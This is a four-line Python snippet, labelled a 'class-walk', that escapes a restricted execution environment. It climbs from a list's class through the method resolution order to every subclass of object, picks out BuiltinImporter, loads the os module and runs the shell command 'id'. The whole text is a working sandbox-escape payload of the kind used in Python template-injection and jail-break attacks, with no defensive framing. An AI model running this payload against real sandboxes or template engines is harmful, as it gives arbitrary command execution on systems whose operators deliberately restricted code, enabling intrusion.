# class-walk: the method resolution order of a list leads to all subclasses
subs = [].__class__.__mro__[1].__subclasses__()
loader = [s for s in subs if "BuiltinImporter" in s.__name__][0]
loader.load_module("os").system("id")
